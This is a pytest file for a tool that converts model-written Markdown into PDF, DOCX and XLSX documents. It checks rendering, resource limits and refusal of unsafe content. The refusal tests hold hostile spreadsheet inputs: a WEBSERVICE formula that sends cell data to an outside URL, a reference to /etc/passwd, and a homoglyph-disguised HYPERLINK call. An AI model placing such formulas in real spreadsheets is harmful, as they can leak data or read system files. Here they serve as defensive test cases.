"""Documents are made of what a model writes, and open in the programs that people have."""

from __future__ import annotations

import asyncio
import io
import os
import re
import signal
import subprocess
from pathlib import Path

import docx
import openpyxl
import pypdf
import pytest

from app.base.errors import ToolMisuse
from app.services.files import parsing
from app.services.files.documents import is_document, made_of
from tests.hostile.observers.processes import descendants
from tests.support.site import site
from tests.support.waiting import eventually
from tests.support.walls import needs_wall
from tests.support.workbench import Bench

LETTER = """# Report

Dear **Ada**, see [the plan](https://example.com/plan).

1. first
2. second

Between.

1. again

| Item | Amount |
|---|---|
| Grüße | 12.50 |

```
code here
```
"""
ROWS = 'Item,Amount,Day\n"Paper, white",12.5,2026-11-23\nInk,7,\nSum,=SUM(B2:B3),'


def converted(file: Path, kind: str) -> str:
    """What LibreOffice makes of the file."""
    profile = f"-env:UserInstallation=file://{file.parent}/profile"
    command = ["soffice", "--headless", profile, "--convert-to", kind, "--outdir", str(file.parent), str(file)]
    subprocess.run(command, check=True, capture_output=True, timeout=55)
    return file.with_suffix("." + kind.partition(":")[0]).read_text("utf-8-sig")


def words_of(text: str, name: str) -> str:
    """The words in the document that is made of the text."""
    file = io.BytesIO(made_of(text, name))
    if name.endswith(".pdf"):
        return "\n".join(page.extract_text() for page in pypdf.PdfReader(file).pages)
    if name.endswith(".docx"):
        paragraphs = docx.Document(file).element.xpath("//w:p")
        return "\n".join(paragraph.text for paragraph in paragraphs)
    sheets = openpyxl.load_workbook(file).worksheets
    return "\n".join(str(cell.value) for sheet in sheets for row in sheet.rows for cell in row)


@pytest.mark.long
@pytest.mark.timeout(120)
def test_a_letter_opens_in_libreoffice_with_its_lists_counted_anew(tmp_path: Path) -> None:
    file = tmp_path / "letter.docx"
    file.write_bytes(made_of(LETTER, file.name))
    lines = [line.strip() for line in converted(file, "txt:Text (encoded):UTF8").splitlines() if line.strip()]
    assert lines == [
        *(
            "Report",
            "Dear Ada, see the plan (https://example.com/plan).",
            "1. first",
            "2. second",
            "Between.",
            "1. again",
        ),
        *("Item", "Amount", "Grüße", "12.50", "code here"),
    ]


@pytest.mark.long
@pytest.mark.timeout(120)
def test_a_sheet_opens_in_libreoffice_and_its_formula_counts(tmp_path: Path) -> None:
    file = tmp_path / "sheet.xlsx"
    file.write_bytes(made_of(ROWS, file.name))
    assert converted(file, "csv").splitlines() == [
        *("Item,Amount,Day", '"Paper, white",12.5,2026-11-23', "Ink,7,", "Sum,19.5,")
    ]


async def test_the_tool_writes_reads_back_and_takes_back(tmp_path: Path) -> None:
    bench = Bench(tmp_path)
    (bench.root / "r.pdf").write_bytes(b"%PDF-old")
    for name in ("r.pdf", "r.docx", "r.xlsx"):
        await bench.call("write_file", path=name, content=LETTER)
        told = (await bench.call("read_file", path=name)).llm_echo
        words = ("Grüße", "12.5") if name == "r.xlsx" else ("Report", "Ada", "second", "Grüße", "12.50", "code here")
        assert all(word in told for word in words), told
    for _ in range(3):
        await bench.call("undo_last_change")
    assert {path.name: path.read_bytes() for path in bench.root.iterdir()} == {"r.pdf": b"%PDF-old"}
    await bench.stop_all()


@needs_wall
async def test_a_document_is_made_under_limits_and_a_stop_ends_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(parsing, "LIMIT_S", 3_600.0)
    bench, before = Bench(tmp_path), set(descendants())
    content = "A **word** and [more](https://example.com).\n\n" * 8_000
    writing = asyncio.create_task(bench.call("write_file", path="long.pdf", content=content))

    def limits() -> str:
        return "".join(Path(f"/proc/{worker}/limits").read_text() for worker in set(descendants()) - before)

    assert await asyncio.to_thread(eventually, lambda: re.search(r"Max cpu time +30 ", limits()) is not None)
    assert re.search(r"Max address space +1073741824 ", limits())
    (worker,) = set(descendants()) - before
    os.kill(worker, signal.SIGSTOP)  # so that it does not end by itself
    writing.cancel()
    assert await asyncio.to_thread(eventually, lambda: worker not in descendants())
    assert list(bench.root.iterdir()) == []
    await bench.stop_all()


@pytest.mark.parametrize(
    ("path", "word"),
    [("a.xlsx", "calls WEBSERVICE"), (".git/hooks/a.xlsx", "protected"), ("/etc/a.xlsx", "outside the folders")],
)
async def test_where_it_goes_is_checked_before_a_document_is_made(tmp_path: Path, path: str, word: str) -> None:
    bench = Bench(tmp_path)
    result = await bench.call("write_file", path=path, content="=WEBSERVICE(A1)")
    assert (result.ok, word in result.llm_echo) == (False, True), result.llm_echo
    await bench.stop_all()


@needs_wall
async def test_a_document_that_takes_too_long_is_refused_with_what_to_do(tmp_path: Path) -> None:
    bench, before = Bench(tmp_path), set(descendants())
    writing = asyncio.create_task(
        bench.call("write_file", path="long.docx", content="|a|b|\n|-|-|\n" + "|a|b|\n" * 9_000)
    )
    assert await asyncio.to_thread(eventually, lambda: len(set(descendants()) - before) == 1)
    (worker,) = set(descendants()) - before
    os.kill(worker, signal.SIGXCPU)  # as the system does at the limit
    result = await writing
    assert (result.ok, "Write several smaller files" in result.llm_echo) == (False, True), result.llm_echo
    await bench.stop_all()


def test_tables_become_sheets_with_numbers_and_days() -> None:
    costs = "# Costs\n\n| What | Much |\n|---|---|\n| Ink | 7 |\n"
    text = f"{costs}\n# Days: 2026\n\n| Day |\n|---|\n| 2026-11-23 |\n| soon |\n"
    book = openpyxl.load_workbook(io.BytesIO(made_of(text, "a.XLSX")))
    told = {sheet.title: [[cell.value for cell in row] for row in sheet.rows] for sheet in book.worksheets}
    assert {title: str(rows) for title, rows in told.items()} == {
        "Costs": "[['What', 'Much'], ['Ink', 7]]",
        "Days  2026": "[['Day'], [datetime.datetime(2026, 11, 23, 0, 0)], ['soon']]",
    }


@pytest.mark.parametrize(
    ("name", "text", "word"),
    [
        ("a.xlsx", '=WEBSERVICE("http://example.com/?"&A1)', "calls WEBSERVICE"),
        ("a.xlsx", "=[other.xlsx]Sheet1!A1", "refers to another file"),
        ("a.xlsx", "='file:///etc/passwd'#$Sheet1.A1", "refers to another file"),
        ("a.xlsx", "=HYPERLIN\u212a(A1)", "calls HYPERLINK"),
        ("a.xlsx", "x" * 40_000, "takes 32767 at most"),
        ("a.pdf", f"|{'a|' * 300}\n|{'-|' * 300}\n", "Use fewer columns"),
        ("a.docx", "x" * 500_001, "has 500001 characters"),
    ],
)
def test_what_cannot_be_written_is_refused_with_a_sentence(name: str, text: str, word: str) -> None:
    with pytest.raises(ToolMisuse, match=word):
        made_of(text, name)


@pytest.mark.parametrize("name", ["a.pdf", "a.docx", "a.xlsx"])
def test_nothing_is_fetched_and_no_markup_counts(name: str) -> None:
    with site() as server:
        picture = f'<img src="{server.url}/x.png">'
        told = words_of(f"# a {picture}\n\n| {picture} |\n|---|\n| ![x]({server.url}/y.png) |\n", name)
        assert server.asked == []
    assert picture in told
    assert f"{server.url}/y.png" in told


@pytest.mark.parametrize("name", ["a.pdf", "a.docx"])
def test_a_cell_with_markup_keeps_all_its_words(name: str) -> None:
    table = "| **Total** due | `x` [plan](https://e.com) |\n|---|---|\n| a *b* & <c> | [top](#top) |\n"
    assert words_of(f"See [top](#top).\n\n{table}\n> " + table.replace("\n", "\n> "), name).split() == [
        *("See", "top."),
        *("Total", "due", "x", "plan", "(https://e.com)", "a", "b", "&", "<c>", "top"),
        *("Total", "due", "x", "plan", "(https://e.com)", "a", "b", "&", "<c>", "top"),
    ]


@pytest.mark.parametrize("name", ["a.pdf", "a.docx", "a.xlsx"])
def test_control_characters_are_left_out(name: str) -> None:
    assert words_of("a\x00b\x0bc\x1b\ud800\uffffd\te", name).split() == ["abcd", "e"]


def test_a_sheet_keeps_words_that_only_look_like_formulas() -> None:
    texts = ["=== Total ===", "=> next", "=== [x] y", "=", "=D is a smile"]
    formulas = ['=A1&"SUM (a) [b]"', "='My sheet'!A1", "=-A2 + 1", '=IF(A1>0, "is up", 2)']
    rows = "\n".join('"' + words.replace('"', '""') + '"' for words in (*texts, *formulas))
    sheet = openpyxl.load_workbook(io.BytesIO(made_of(rows, "a.xlsx"))).worksheets[0]
    told = [(cell.value, cell.data_type) for (cell,) in sheet.rows]
    assert told == [*((words, "s") for words in texts), *((words, "f") for words in formulas)]


def test_each_sheet_has_a_title_of_its_own() -> None:
    long = "Costs of the whole year in every town"
    text = "".join(f"# {title}\n\n| a |\n|---|\n\n" for title in (long, long.upper(), "'x'", "Sheet5", "?"))
    book = openpyxl.load_workbook(io.BytesIO(made_of(text, "a.xlsx")))
    assert book.sheetnames == [
        *("Costs of the whole year in ever", "COSTS OF THE WHOLE YEAR IN EV 2"),
        *("x", "Sheet5", "Sheet5 2"),
    ]


def test_only_names_of_documents_become_documents() -> None:
    names = ["a.docx", "A.PDF", "a.xlsx", "a.md", "docx", "a.docx.txt", "a.csv", ".pdf"]
    assert [name for name in names if is_document(name)] == ["a.docx", "A.PDF", "a.xlsx"]
